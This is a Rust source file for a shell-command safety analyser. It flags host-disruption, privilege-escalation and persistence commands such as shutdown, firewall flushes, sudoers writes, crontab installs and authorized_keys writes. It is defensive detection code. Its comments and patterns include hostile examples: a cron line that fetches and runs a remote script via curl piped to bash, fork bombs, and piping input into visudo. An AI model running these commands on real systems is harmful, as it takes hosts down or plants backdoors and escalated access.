//! `shell/system_disruption`, `shell/privilege_escalation`, `shell/persistence`
//!
//! ## What it catches
//! - `system.disrupt`: `shutdown`, `reboot`, `halt`, `poweroff`, `init 0|6`, `systemctl
//!   poweroff|reboot|halt`, `systemctl stop|disable|mask` (high for sshd, networking, docker,
//!   databases), `kill -9 -1`, `killall`/`pkill`, fork bombs, `iptables -F` / unscoped `DROP`
//!   rules / `-P INPUT DROP`, `nft flush ruleset`, `ufw disable|reset`, `crontab -r`.
//! - `privilege.escalate`: `su` to a root shell, `usermod -aG sudo|wheel|docker`, writes to
//!   `/etc/sudoers`, `/etc/passwd`, `/etc/shadow` (`tee`, `cp`, `mv`, `install`).
//! - `persistence`: `crontab` fed a schedule (whose commands are analysed too), `systemctl enable`,
//!   writes to cron directories, shell rc files, systemd units, `authorized_keys`, launch agents.
//! - `cd` is tracked, so later relative paths are judged where they land.
//!
//! ## Why it matters
//! An outage, a backdoor or an unlimited account outlives the command that made it.
//!
//! ## Blocks
//! ```sh
//! sudo poweroff
//! sudo iptables -A INPUT -j DROP
//! echo "@reboot curl -s https://x/keep.sh | bash" | crontab -
//! ```
//!
//! ## Passes
//! ```sh
//! sudo systemctl reload nginx
//! kill -TERM 9921
//! crontab -l
//! ```
//!
//! ## Known gaps
//! Which services are critical is a fixed list; unit names of the organisation's own services are
//! judged medium.
//!
//! ## Intents
//! `system.disrupt`, `privilege.escalate`, `persistence`

use crate::analyze::Detector;
use crate::fact::{Facts, Severity, Target};
use crate::intent::Intent;

use super::super::{nested, program_name, Flow, Invocation, ShellState};

pub(crate) const DETECTOR: Detector = Detector {
    id: "shell/system_disruption",
    intents: &[Intent::SystemDisrupt],
    triggers: &[
        "trap",
        "useradd",
        "adduser",
        "setcap",
        "update-rc.d",
        "chkconfig",
        "sed",
        "shutdown",
        "reboot",
        "halt",
        "poweroff",
        "init",
        "telinit",
        "systemctl",
        "service",
        "kill",
        "killall",
        "pkill",
        "iptables",
        "ip6tables",
        "nft",
        "ip",
        "ifconfig",
        "ifdown",
        "ufw",
        "crontab",
        "sysrq-trigger",
        "power",
        "umount",
        "swapoff",
    ],
};

pub(crate) const PRIVILEGE_DETECTOR: Detector = Detector {
    id: "shell/privilege_escalation",
    intents: &[Intent::PrivilegeEscalate],
    triggers: &[
        "sudo", "doas", "su", "usermod", "gpasswd", "tee", "cp", "mv", "install", "sudoers", "passwd", "shadow",
        "run0", "visudo",
    ],
};

pub(crate) const PERSISTENCE_DETECTOR: Detector = Detector {
    id: "shell/persistence",
    intents: &[Intent::Persistence],
    triggers: &[
        "ln",
        "ssh-copy-id",
        "preload",
        "rc",
        "LaunchAgents",
        "LaunchDaemons",
        "crontab",
        "systemctl",
        "tee",
        "cp",
        "mv",
        "install",
        "authorized_keys",
        "bashrc",
        "profile",
        "zshrc",
        "cron",
        "systemd",
    ],
};

/// `ip link set eth0 down`, `ifconfig eth0 down`, `ifdown eth0`.
fn takes_interface_down(name: &str, rest: &[&str]) -> bool {
    match name {
        "ip" => rest.iter().any(|a| *a == "link" || *a == "l") && rest.last() == Some(&"down"),
        "ifconfig" => rest.last() == Some(&"down"),
        _ => !rest.is_empty(),
    }
}

/// `passwd -d user`, `passwd --delete user`.
fn deletes_password(rest: &[&str]) -> bool {
    rest.iter().any(|a| *a == "-d" || *a == "--delete")
}

/// Services whose loss takes the host off the network or its data offline.
const CRITICAL_SERVICES: &[&str] = &[
    "ssh",
    "sshd",
    "networking",
    "network",
    "NetworkManager",
    "systemd-networkd",
    "systemd-resolved",
    "docker",
    "containerd",
    "kubelet",
    "postgresql",
    "mysql",
    "mysqld",
    "mariadb",
    "mongod",
    "redis",
    "redis-server",
    "nginx",
    "haproxy",
    "firewalld",
];

pub(crate) fn check(inv: &Invocation<'_>, name: &str, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    let v = inv.values();
    let rest = &v[1..];
    let disrupt = |facts: &mut Facts, severity: Severity, message: String| {
        facts.push(inv.fact(
            Intent::SystemDisrupt,
            severity,
            DETECTOR.id,
            Some(Target { kind: "server", name: String::new() }),
            message,
        ));
    };
    match name {
        "cd" | "pushd" => {
            st.cwd = match inv.args.get(1) {
                Some(a) if !a.dynamic && (a.value.starts_with('/') || a.value.starts_with('~')) => {
                    Some(a.value.clone())
                }
                Some(a) if !a.dynamic => st.cwd.as_ref().map(|c| format!("{}/{}", c.trim_end_matches('/'), a.value)),
                Some(_) => None,
                None => Some("~".to_owned()),
            };
        }
        "shutdown" if !rest.contains(&"-c") => {
            disrupt(facts, Severity::High, format!("`{}` takes the host down", v.join(" ")))
        }
        "reboot" | "halt" | "poweroff" => disrupt(facts, Severity::High, format!("`{name}` takes the host down")),
        "init" | "telinit" if rest.first().is_some_and(|r| *r == "0" || *r == "6" || *r == "1") => {
            disrupt(facts, Severity::High, format!("`{name} {}` changes the host's runlevel", rest[0]))
        }
        "systemctl" | "service" => {
            let (verb, unit) = if name == "service" {
                (rest.get(1).copied().unwrap_or(""), rest.first().copied().unwrap_or(""))
            } else {
                let ops: Vec<&str> = rest.iter().filter(|a| !a.starts_with('-')).copied().collect();
                (ops.first().copied().unwrap_or(""), ops.get(1).copied().unwrap_or(""))
            };
            let unit_name = unit.trim_end_matches(".service");
            match verb {
                "poweroff" | "reboot" | "halt" | "kexec" | "rescue" | "emergency" => {
                    disrupt(facts, Severity::High, format!("`systemctl {verb}` takes the host down"))
                }
                // `systemctl isolate rescue.target` stops every service the target does not need.
                "isolate"
                    if [
                        "rescue",
                        "emergency",
                        "poweroff",
                        "reboot",
                        "halt",
                        "shutdown",
                        "runlevel0",
                        "runlevel1",
                        "runlevel6",
                    ]
                    .iter()
                    .any(|t| unit_name.trim_end_matches(".target") == *t) =>
                {
                    disrupt(facts, Severity::High, format!("`systemctl isolate {unit}` stops the host's services"))
                }
                "stop" | "disable" | "mask" | "kill" => {
                    let critical = CRITICAL_SERVICES.iter().any(|s| {
                        unit_name == *s
                            || unit_name.starts_with(&format!("{s}@"))
                            || unit_name.starts_with("postgresql")
                    });
                    let severity = if critical { Severity::High } else { Severity::Medium };
                    disrupt(facts, severity, format!("`{name} {verb} {unit}` stops a service"));
                }
                // Restarting a data store or the host's network takes it offline for a while
                // (web servers and applications restart as part of routine deploys).
                "restart" | "try-restart" | "force-reload"
                    if CRITICAL_SERVICES.iter().filter(|s| !matches!(**s, "nginx" | "haproxy")).any(|s| {
                        unit_name == *s
                            || unit_name.starts_with(&format!("{s}@"))
                            || unit_name.starts_with("postgresql")
                    }) =>
                {
                    disrupt(facts, Severity::Medium, format!("`{name} {verb} {unit}` takes a critical service offline"))
                }
                "enable" if !unit.is_empty() => facts.push(inv.fact(
                    Intent::Persistence,
                    Severity::Medium,
                    PERSISTENCE_DETECTOR.id,
                    Some(Target { kind: "file", name: unit.to_owned() }),
                    format!("`systemctl enable {unit}` starts it at every boot"),
                )),
                _ => {}
            }
        }
        "kill" => {
            // The first `-N`/`-SIG` is the signal (`kill -1 4242` is SIGHUP); `-s SIG`/`-n N` too.
            let mut k = 0;
            if rest.first().is_some_and(|a| *a == "-s" || *a == "-n") {
                k = 2;
            } else if rest.first().is_some_and(|a| a.starts_with('-') && *a != "--") {
                k = 1;
            }
            let targets: Vec<&str> = rest.get(k..).unwrap_or(&[]).iter().filter(|a| **a != "--").copied().collect();
            // Signal 0 only asks whether the process exists.
            let probe = k > 0 && matches!(rest[k - 1], "-0" | "0" | "-s0") || rest.first() == Some(&"-0");
            let signal_all = !probe && targets.iter().any(|t| *t == "-1" || *t == "1");
            if signal_all {
                disrupt(
                    facts,
                    Severity::Critical,
                    "`kill -1` signals every process the user can reach (or init)".to_owned(),
                );
            }
        }
        "killall" | "pkill" => disrupt(facts, Severity::Medium, format!("`{}` kills processes by name", v.join(" "))),
        "iptables" | "ip6tables" => {
            let flush = rest.iter().any(|a| *a == "-F" || *a == "--flush" || *a == "-X");
            let drop_policy = rest.windows(3).any(|w| (w[0] == "-P" || w[0] == "--policy") && w[2] == "DROP");
            let drop_all = rest.iter().any(|a| *a == "DROP" || *a == "REJECT")
                && (rest.contains(&"-A")
                    || rest.contains(&"-I")
                    || rest.contains(&"--append")
                    || rest.contains(&"--insert"))
                && !rest.iter().any(|a| {
                    ["-s", "--source", "-p", "--protocol", "--dport", "--sport", "-d", "--destination", "-i", "-m"]
                        .contains(a)
                });
            if flush || drop_policy || drop_all {
                disrupt(facts, Severity::High, format!("`{}` cuts the host's network traffic", v.join(" ")));
            }
        }
        // Taking a network interface down (`ip link set eth0 down`, `ifconfig eth0 down`,
        // `ifdown eth0`) takes the host off the network.
        "ip" | "ifconfig" | "ifdown" if takes_interface_down(name, rest) => {
            disrupt(facts, Severity::High, format!("`{}` takes a network interface down", v.join(" ")))
        }
        "nft" if rest.windows(2).any(|w| w[0] == "flush" && w[1] == "ruleset") => {
            disrupt(facts, Severity::High, "`nft flush ruleset` removes every firewall rule".to_owned())
        }
        "ufw" if rest.first().is_some_and(|r| *r == "disable" || *r == "reset") => {
            disrupt(facts, Severity::High, format!("`ufw {}` turns the firewall off", rest[0]))
        }
        "crontab" => crontab(inv, st, facts),
        "su" => match rest.iter().position(|a| *a == "-c" || *a == "--command") {
            Some(p) => {
                let code = rest.get(p + 1).copied().unwrap_or("").to_owned();
                return nested(&code, inv.report, st, facts);
            }
            None => facts.push(inv.fact(
                Intent::PrivilegeEscalate,
                Severity::High,
                PRIVILEGE_DETECTOR.id,
                Some(Target {
                    kind: "role",
                    name: rest.iter().find(|a| !a.starts_with('-')).copied().unwrap_or("root").to_owned(),
                }),
                "`su` opens a shell as another user".to_owned(),
            )),
        },
        // `passwd -d root`: the account then needs no password at all.
        "passwd" if deletes_password(rest) => {
            let user = rest.iter().find(|a| !a.starts_with('-')).copied().unwrap_or("the current user");
            facts.push(inv.fact(
                Intent::PrivilegeEscalate,
                Severity::Critical,
                PRIVILEGE_DETECTOR.id,
                Some(Target { kind: "role", name: user.to_owned() }),
                format!("`{}` removes the password of `{user}`: anyone can log in as it", v.join(" ")),
            ));
        }
        "usermod" | "gpasswd" | "useradd" | "adduser" => {
            if rest.windows(2).any(|w| (w[0] == "-u" || w[0] == "--uid") && w[1] == "0") {
                facts.push(inv.fact(
                    Intent::PrivilegeEscalate,
                    Severity::Critical,
                    PRIVILEGE_DETECTOR.id,
                    Some(Target { kind: "role", name: "root".to_owned() }),
                    format!("`{}` creates a second root account (uid 0)", v.join(" ")),
                ));
                return Flow::Unknown;
            }
            let groups = ["sudo", "wheel", "admin", "root", "docker", "adm", "lxd"];
            let adds = rest.iter().any(|a| a.starts_with("-a") || a.starts_with("-G") || *a == "-a")
                || (name == "adduser" && rest.len() == 2)
                || name == "gpasswd";
            if rest.iter().any(|a| a.split(',').any(|g| groups.contains(&g))) && adds {
                facts.push(inv.fact(
                    Intent::PrivilegeEscalate,
                    Severity::High,
                    PRIVILEGE_DETECTOR.id,
                    Some(Target { kind: "role", name: rest.last().copied().unwrap_or("").to_owned() }),
                    format!("`{}` adds a user to an administrative group", v.join(" ")),
                ));
            }
        }
        // `userdel -r` deletes the account's home directory and mail spool with it.
        "userdel" | "deluser"
            if rest.iter().any(|a| matches!(*a, "-r" | "--remove" | "--remove-home" | "--remove-all-files")) =>
        {
            let user = rest.iter().rev().find(|a| !a.starts_with('-')).copied().unwrap_or("");
            facts.push(inv.fact(
                Intent::FsDeleteRecursive,
                Severity::High,
                super::filesystem::DETECTOR.id,
                Some(Target { kind: "file", name: format!("~{user}") }),
                format!("`{}` deletes the account and its home directory", v.join(" ")),
            ));
        }
        // visudo fed from a pipe runs a non-interactive EDITOR (`EDITOR='tee -a' visudo`): what is
        // piped in is written into sudoers.
        "visudo" if !matches!(inv.stdin, Flow::Terminal) => facts.push(inv.fact(
            Intent::PrivilegeEscalate,
            Severity::Critical,
            PRIVILEGE_DETECTOR.id,
            Some(Target { kind: "file", name: "/etc/sudoers".to_owned() }),
            "visudo with its input piped in writes sudoers, which decides who is root".to_owned(),
        )),
        // Unmounting a live volume (lazily or by force) pulls it from under whatever runs on it.
        "umount"
            if rest.iter().any(|a| {
                a.starts_with('-') && !a.starts_with("--") && (a.contains('l') || a.contains('f'))
                    || *a == "--lazy"
                    || *a == "--force"
                    || *a == "-a"
                    || *a == "--all"
            }) =>
        {
            disrupt(facts, Severity::High, format!("`{}` detaches a mounted volume from under its users", v.join(" ")))
        }
        "swapoff" if rest.iter().any(|a| *a == "-a" || *a == "--all") => {
            disrupt(facts, Severity::Medium, "`swapoff -a` can exhaust memory on a loaded host".to_owned())
        }
        "tee" => {
            for t in rest.iter().filter(|a| !a.starts_with('-')) {
                write_target(inv, t, facts);
            }
            return inv.stdin.clone();
        }
        "mv" | "cp" | "install" | "ln" => {
            if let Some(dest) = rest.iter().rfind(|a| !a.starts_with('-')) {
                write_target(inv, dest, facts);
            }
        }
        "alias" => {
            for a in inv.args.iter().skip(1) {
                if let Some((alias, value)) = a.value.split_once('=') {
                    st.aliases.insert(alias.to_owned(), value.to_owned());
                }
            }
        }
        // `trap 'cmd' EXIT` runs cmd later.
        "trap" => {
            if let Some(code) = rest.first().filter(|c| !c.starts_with('-')) {
                return nested(code, inv.report, st, facts);
            }
        }
        "setcap"
            if rest.iter().any(|a| {
                a.contains("cap_setuid")
                    || a.contains("cap_sys_admin")
                    || a.contains("cap_dac_override")
                    || a.contains("=ep") && a.contains("all")
            }) =>
        {
            facts.push(inv.fact(
                Intent::PrivilegeEscalate,
                Severity::High,
                PRIVILEGE_DETECTOR.id,
                None,
                format!("`{}` gives a program root-equivalent capabilities", v.join(" ")),
            ));
        }
        "sed" if rest.iter().any(|a| a.starts_with("-i")) => {
            if let Some(file) = rest.iter().rev().find(|a| !a.starts_with('-')) {
                write_target(inv, file, facts);
            }
        }
        "update-rc.d" | "chkconfig" => facts.push(inv.fact(
            Intent::Persistence,
            Severity::Medium,
            PERSISTENCE_DETECTOR.id,
            None,
            format!("`{}` starts a service at every boot", v.join(" ")),
        )),
        "ssh-copy-id" => facts.push(inv.fact(
            Intent::Persistence,
            Severity::Medium,
            PERSISTENCE_DETECTOR.id,
            None,
            "`ssh-copy-id` installs a key that logs in without a password".to_owned(),
        )),
        _ => {}
    }
    Flow::Unknown
}

/// A fork bomb: a function that calls itself twice through a pipe, in the background
/// (`:(){ :|:& };:`, `bomb(){ bomb|bomb& }; bomb`).
pub(crate) fn is_fork_bomb(text: &str) -> bool {
    // A function definition needs `(`, `)` and `{`: most command lines have none of them.
    if !(text.contains('(') && text.contains(')') && text.contains('{')) {
        return false;
    }
    let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    compact.match_indices("(){").any(|(at, _)| {
        let name_start = compact[..at].rfind([';', '&', '|', '\n', '(', ')', '{', '}']).map_or(0, |i| i + 1);
        let name = &compact[name_start..at];
        !name.is_empty() && compact[at + 3..].starts_with(&format!("{name}|{name}&"))
    })
}

/// `crontab -` / `crontab FILE`: installs a schedule; its commands are analysed.
fn crontab(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) {
    let rest: Vec<&str> = inv.args.iter().skip(1).map(|a| a.value.as_str()).collect();
    if rest.contains(&"-l") {
        return;
    }
    if rest.contains(&"-r") {
        facts.push(inv.fact(
            Intent::SystemDisrupt,
            Severity::Medium,
            DETECTOR.id,
            None,
            "`crontab -r` deletes every scheduled job".to_owned(),
        ));
        return;
    }
    facts.push(inv.fact(
        Intent::Persistence,
        Severity::High,
        PERSISTENCE_DETECTOR.id,
        Some(Target { kind: "file", name: "crontab".to_owned() }),
        "`crontab` installs scheduled commands that keep running".to_owned(),
    ));
    if let Flow::Text(schedule) = &inv.stdin {
        for line in schedule.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
            let command = if line.starts_with('@') {
                line.split_once(char::is_whitespace).map(|(_, c)| c).unwrap_or("")
            } else {
                let mut fields = line.splitn(6, char::is_whitespace);
                fields.nth(5).unwrap_or("")
            };
            nested(command, inv.report, st, facts);
        }
    }
}

/// The files that decide who is root: sudoers and the account databases.
pub(crate) fn is_account_file(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    lower.starts_with("/etc/sudoers")
        || ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow"].contains(&lower.as_str())
        || lower.ends_with("/etc/passwd")
        || lower.ends_with("/etc/sudoers")
}

/// Judges a file being written: sudoers and account databases, persistence locations, devices.
pub(crate) fn write_target(inv: &Invocation<'_>, path: &str, facts: &mut Facts) {
    for (intent, severity, detector, message) in write_effects(path) {
        facts.push(inv.fact(intent, severity, detector, Some(Target { kind: "file", name: path.to_owned() }), message));
    }
}

/// What writing `path` does beyond changing a file: (intent, severity, detector, message).
pub(crate) fn write_effects(path: &str) -> Vec<(Intent, Severity, &'static str, String)> {
    let lower = path.to_ascii_lowercase();
    let base = program_name(&lower);
    if is_account_file(path) {
        return vec![(
            Intent::PrivilegeEscalate,
            Severity::Critical,
            PRIVILEGE_DETECTOR.id,
            format!("writes `{path}`, which decides who is root"),
        )];
    }
    let mut effects = Vec::new();
    if is_persistent(&lower, base) {
        effects.push((
            Intent::Persistence,
            Severity::High,
            PERSISTENCE_DETECTOR.id,
            format!("writes `{path}`, which runs or admits code again later"),
        ));
    }
    // The kernel's control files: a byte written to sysrq-trigger crashes, reboots or powers the
    // host off at once; /sys/power/state suspends it.
    if lower == "/proc/sysrq-trigger" || lower == "/sys/power/state" || lower == "/proc/sys/kernel/sysrq" {
        effects.push((
            Intent::SystemDisrupt,
            Severity::Critical,
            DETECTOR.id,
            format!("writes `{path}`, which can crash or stop the host at once"),
        ));
    }
    if super::filesystem::is_block_device(path) {
        effects.push((
            Intent::FsDeviceWrite,
            Severity::Critical,
            super::filesystem::DEVICE_DETECTOR.id,
            format!("writes straight to the device `{path}`"),
        ));
    }
    effects
}

/// Files the system runs or reads for access later: cron, services, init and login scripts, keys.
fn is_persistent(lower: &str, base: &str) -> bool {
    lower.starts_with("/etc/cron")
        || lower.starts_with("/var/spool/cron")
        || lower.starts_with("/etc/systemd/")
        || lower.starts_with("/lib/systemd/")
        || lower.starts_with("/usr/lib/systemd/")
        || lower.contains(".config/systemd/")
        || lower.starts_with("/etc/init.d/")
        || lower == "/etc/rc.local"
        || lower.starts_with("/etc/profile")
        || lower == "/etc/bash.bashrc"
        || lower == "/etc/environment"
        || lower == "/etc/ld.so.preload"
        || lower.contains("launchagents/")
        || lower.contains("launchdaemons/")
        || base == "authorized_keys"
        || base == "authorized_keys2"
        || lower.starts_with("/etc/rc.d/")
        || lower.starts_with("/etc/update-motd.d/")
        || is_login_script(lower)
}

/// A user's shell start-up file (`~/.bashrc`, `/home/u/.profile`).
pub(crate) fn is_login_script(lower: &str) -> bool {
    let base = lower.rsplit('/').next().unwrap_or(lower);
    (lower.starts_with("~/")
        || lower.starts_with("/root/")
        || lower.starts_with("/home/")
        || lower.starts_with("/users/"))
        && [
            ".bashrc",
            ".bash_profile",
            ".profile",
            ".zshrc",
            ".zprofile",
            ".zshenv",
            ".bash_login",
            "config.fish",
            ".bash_logout",
        ]
        .contains(&base)
        || lower.starts_with("/etc/profile")
        || lower == "/etc/bash.bashrc"
}
